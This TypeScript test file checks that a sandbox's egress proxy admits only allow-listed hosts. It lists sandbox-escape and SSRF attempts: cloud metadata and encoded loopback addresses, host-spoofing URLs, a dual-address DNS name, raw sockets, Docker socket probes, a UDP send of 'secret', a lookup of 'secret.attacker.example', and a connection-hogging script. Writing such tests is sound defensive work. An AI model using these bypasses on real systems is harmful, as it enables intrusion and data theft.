import assert from "node:assert/strict";
import { createHash, randomUUID } from "node:crypto";
import { once } from "node:events";
import test, { suite } from "node:test";
import type { ContainerCreateOptions } from "dockerode";
import type { Sandbox } from "../../src/core/sandbox.ts";
import { connectEngine, hold } from "../../src/sandbox/docker-engine.ts";
import { egressProxy } from "../../src/sandbox/egress.ts";
import { openRig, type Rig, run } from "../contract/sandbox-forms.ts";
import { debianImage, dockerAt, smallImage } from "../services/docker.ts";

/** A web server that answers with its name and what it was asked. */
const server = (name: string) => `
import socket, sys, threading
def serve(port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(16)
    while True:
        c = s.accept()[0]
        try:
            c.settimeout(5); asked = c.recv(65536).decode("latin-1")
            body = "${name} " + str(port) + " " + asked.replace("\\r\\n", "|")
            c.sendall(("HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: " + str(len(body)) + "\\r\\n\\r\\n" + body).encode()); c.close()
        except OSError: pass
for port in (80, 443, 8080): threading.Thread(target=serve, args=(port,)).start()
`;

/** In the sandbox: sends lines to the proxy (\`|\` for a line's end) and prints what comes back. */
const asking = `
import socket, sys
def ask(text, then=""):
    s = socket.create_connection(("127.0.0.1", 3128), 10); s.settimeout(10)
    s.sendall(text.replace("|", "\\r\\n").encode("latin-1")); got = b""
    if then:
        while b"\\r\\n\\r\\n" not in got: got += s.recv(65536)
        s.sendall(then.replace("|", "\\r\\n").encode())
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
    print(got.decode("latin-1").replace("\\r\\n", "|"))
ask(*sys.argv[1:])
`;

interface Web extends AsyncDisposable {
  readonly gateway: string;
  readonly privateAddress: string;
}

/** The world outside: a network whose addresses are public ones, another that is private, and servers on both, as the proxy sees them. */
async function openWeb(rig: Rig): Promise<Web> {
  const docker = dockerAt(rig.options.dockerHost ?? "");
  const tag = randomUUID().slice(0, 8);
  // Nobody's that a test on a shared engine would miss; each file and run has its own.
  const third = 1 + Math.floor(Math.random() * 250);
  const makeNetwork = (name: string, subnet: string) =>
    docker.createNetwork({ Name: `hermes-test-${name}-${tag}`, IPAM: { Config: [{ Subnet: `${subnet}.0/24` }] } });
  const open = await makeNetwork("open", `185.199.${third}`);
  const closed = await makeNetwork("closed", `10.231.${third}`);
  const serve = async (name: string, network: typeof open, aliases: string[]) => {
    const container = await docker.createContainer({
      Image: debianImage,
      Cmd: ["python3", "-c", server(name)],
      HostConfig: { NetworkMode: network.id, Init: true },
      NetworkingConfig: { EndpointsConfig: { [network.id]: { Aliases: aliases } } },
    });
    await container.start();
    return container;
  };
  const servers = await Promise.all([
    serve("public", open, ["allowed.test.example", "deep.below.test.example", "other.example", "both.test.example"]),
    serve("private", closed, ["inside.test.example", "both.test.example"]),
  ]);
  const home = createHash("sha256").update(rig.options.home).digest("hex").slice(0, 10);
  const proxy = docker.getContainer(`hermes-${home}_egress`);
  await open.connect({ Container: proxy.id });
  await closed.connect({ Container: proxy.id });
  const networks = await servers[1].inspect();
  return {
    gateway: `185.199.${third}.1`,
    privateAddress: Object.values(networks.NetworkSettings.Networks)[0]?.IPAddress ?? "",
    async [Symbol.asyncDispose]() {
      await Promise.all(servers.map((each) => each.remove({ force: true })));
      for (const network of [open, closed]) {
        await network.disconnect({ Container: proxy.id, Force: true }).catch(() => undefined);
        await network.remove();
      }
    },
  };
}

async function ask(sandbox: Sandbox, ...lines: string[]): Promise<string> {
  const words = lines.map((line) => `'${line}'`).join(" ");
  return (await run(sandbox, `python3 /workspace/ask.py ${words}`)).output;
}

async function opened(rig: Rig): Promise<Sandbox> {
  const sandbox = await rig.open();
  await sandbox.writeFile("ask.py", Buffer.from(asking));
  return sandbox;
}

const networkAllow = ["allowed.test.example", "*.below.test.example", "inside.test.example", "both.test.example"];

suite("escape: a network by list", () => {
  test("what is on the list is reached by HTTP and CONNECT, and nothing else is", async () => {
    await using rig = await openRig("docker", { network: "allow", networkAllow });
    const sandbox = await opened(rig);
    await using web = await openWeb(rig);
    assert.match(
      await ask(sandbox, "GET http://allowed.test.example/a?b HTTP/1.1|Host: other.example|Accept: x||"),
      /^HTTP\/1\.1 200 OK\|[^]*public 80 GET \/a\?b HTTP\/1\.1\|Host: allowed\.test\.example\|Connection: close\|Accept: x\|\|/,
    );
    assert.match(
      await ask(sandbox, "CONNECT Deep.below.test.example.:443 HTTP/1.1||", "hello"),
      /200 Connected\|\|[^]*public 443 hello/,
    );
    const refused: Record<string, RegExp> = {
      "CONNECT other.example:443 HTTP/1.1||": /403[^]*not on the list/,
      "CONNECT below.test.example:443 HTTP/1.1||": /403[^]*not on the list/,
      "CONNECT evil-below.test.example:443 HTTP/1.1||": /403[^]*not on the list/,
      "CONNECT allowed.test.example.evil.example:443 HTTP/1.1||": /403[^]*not on the list/,
      "CONNECT allowed.test.example:8080 HTTP/1.1||": /403[^]*ports 80 and 443/,
      "CONNECT allowed.test.example:22 HTTP/1.1||": /403[^]*ports 80 and 443/,
      "CONNECT inside.test.example:443 HTTP/1.1||": /403[^]*not public/,
      // One of its addresses is public, the other is not: what a name that changes its mind looks like.
      "CONNECT both.test.example:443 HTTP/1.1||": /403[^]*not public/,
      "GET http://both.test.example/ HTTP/1.1||": /403[^]*not public/,
      "GET http://allowed.test.example@other.example/ HTTP/1.1||": /400/,
      "GET http://other.example#allowed.test.example/ HTTP/1.1||": /400/,
      "GET /relative HTTP/1.1|Host: allowed.test.example||": /400/,
      "GET ftp://allowed.test.example/ HTTP/1.1||": /400/,
      "CONNECT [::1]:80 HTTP/1.1||": /403/,
      "CONNECT 169.254.169.254:80 HTTP/1.1||": /403/,
      "CONNECT 2852039166:80 HTTP/1.1||": /403/,
      "CONNECT 0x7f.1:80 HTTP/1.1||": /403/,
      [`CONNECT ${web.privateAddress}:80 HTTP/1.1||`]: /403/,
      [`CONNECT ${web.gateway}:80 HTTP/1.1||`]: /403/,
      "nonsense||": /400/,
    };
    for (const [line, expect] of Object.entries(refused)) assert.match(await ask(sandbox, line), expect, line);
    assert.match(await ask(sandbox, "GET http://allowed.test.example/ HTTP/1.1||"), /public 80/);
  });

  test("there is no way past the proxy: no interface, no names, no address, no other sandbox, no engine, no socket of somebody else", async () => {
    await using rig = await openRig("docker", { network: "allow", networkAllow });
    const sandbox = await opened(rig);
    await using web = await openWeb(rig);
    const other = await rig.open("bob");
    const neighbour = await run(other, "hostname -i 2>/dev/null; ls /sys/class/net");
    assert.match(neighbour.output, /lo\n$/);
    const tries = [
      'socket.create_connection(("1.1.1.1", 443), 3)',
      'socket.create_connection(("169.254.169.254", 80), 3)',
      `socket.create_connection(("${web.gateway}", 80), 3)`,
      `socket.create_connection(("${web.privateAddress}", 80), 3)`,
      'socket.create_connection(("172.17.0.1", 2375), 3)',
      'socket.create_connection(("127.0.0.11", 53), 3)',
      'socket.getaddrinfo("secret.attacker.example", 80)',
      'socket.getaddrinfo("allowed.test.example", 80)',
      'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53))',
      "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
      "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
      // The abstract namespace belongs to the network's: nobody else's sockets are in it.
      'socket.socket(socket.AF_UNIX).connect("\\0/containerd-shim")',
      'open("/.hermes-egress/mine", "w")',
      '__import__("os").unlink("/.hermes-egress/proxy.sock")',
    ];
    for (const attempt of tries) {
      const { exitCode, output } = await run(sandbox, `python3 -c 'import socket; ${attempt.replaceAll("'", "")}'`);
      assert.notEqual(exitCode, 0, `${attempt}: ${output}`);
      assert.match(output, /OSError|unreachable|gaierror|PermissionError|Refused|Read-only|Permission denied|^$/, attempt);
    }
    assert.equal(
      (await run(sandbox, "ls /sys/class/net; ls /.hermes-egress; ls /var/run/docker.sock 2>/dev/null")).output,
      "lo\nproxy.sock\n",
    );
    assert.match(await ask(sandbox, "GET http://allowed.test.example/ HTTP/1.1||"), /public 80/);
  });

  test("one who holds all of the proxy's connections keeps nobody out; a killed proxy comes back", async () => {
    await using rig = await openRig("docker", { network: "allow", networkAllow });
    const sandbox = await opened(rig);
    await using _web = await openWeb(rig);
    const hog = `import socket, time
held = []
for i in range(600):
    s = socket.socket(socket.AF_UNIX); s.settimeout(3)
    try: s.connect("/.hermes-egress/proxy.sock"); held.append(s)
    except OSError: pass
print(len(held)); time.sleep(2)`;
    const hogging = run(await rig.open("bob"), `python3 -c '${hog}'`);
    assert.match(await ask(sandbox, "GET http://allowed.test.example/ HTTP/1.1||"), /public 80/);
    await hogging;
    assert.match(await ask(sandbox, "GET http://allowed.test.example/ HTTP/1.1||"), /public 80/);
    const home = createHash("sha256").update(rig.options.home).digest("hex").slice(0, 10);
    await dockerAt(rig.options.dockerHost ?? "")
      .getContainer(`hermes-${home}_egress`)
      .kill();
    // Another session comes: whoever opens a sandbox sees to the proxy.
    await rig.open("alice", "s2").then((again) => run(again, "true"));
    assert.match(await ask(sandbox, "GET http://allowed.test.example/ HTTP/1.1||"), /public 80/);
  });

  test("a proxy that somebody else starts meanwhile is left running, and not waited for", async () => {
    await using rig = await openRig("docker", {});
    const engine = await connectEngine(rig.options.dockerHost);
    let others = 0;
    const makes: typeof engine.docker.createContainer = async (...wish: readonly unknown[]) => {
      // Boundary: of its overloads one is used.
      const container = await engine.docker.createContainer(wish[0] as ContainerCreateOptions);
      if (!JSON.stringify(wish[0]).includes('_egress","Labels')) return container;
      const said = await hold(container, "stdout");
      await container.start();
      await once(said, "data");
      said.destroy();
      others += 1;
      return container;
    };
    const docker = new Proxy(engine.docker, {
      get: (target, name) => (name === "createContainer" ? makes : Reflect.get(target, name, target)),
    });
    const began = performance.now();
    await egressProxy({ ...engine, docker }, { ...rig.options, network: "allow", networkAllow }).ensure();
    assert.ok(performance.now() - began < 9_000);
    assert.equal(others, 1);
    const home = createHash("sha256").update(rig.options.home).digest("hex").slice(0, 10);
    const proxy = dockerAt(rig.options.dockerHost ?? "").getContainer(`hermes-${home}_egress`);
    assert.equal((await proxy.inspect()).State.Running, true);
    await proxy.remove({ force: true });
  });

  test("a changed list holds at once, and an image without Python is refused in words", async () => {
    await using rig = await openRig("docker", { network: "allow", networkAllow: ["allowed.test.example"] });
    const sandbox = await opened(rig);
    assert.match(await ask(sandbox, "CONNECT new.example:443 HTTP/1.1||"), /not on the list/);
    await rig.again({ networkAllow: ["new.example"] });
    assert.match(await ask(sandbox, "CONNECT new.example:443 HTTP/1.1||"), /502[^]*can't be found/);
    assert.match(await ask(sandbox, "CONNECT allowed.test.example:443 HTTP/1.1||"), /not on the list/);
    await assert.rejects(openRig("docker", { image: smallImage, network: "allow", networkAllow }), /needs python3/);
  });
});
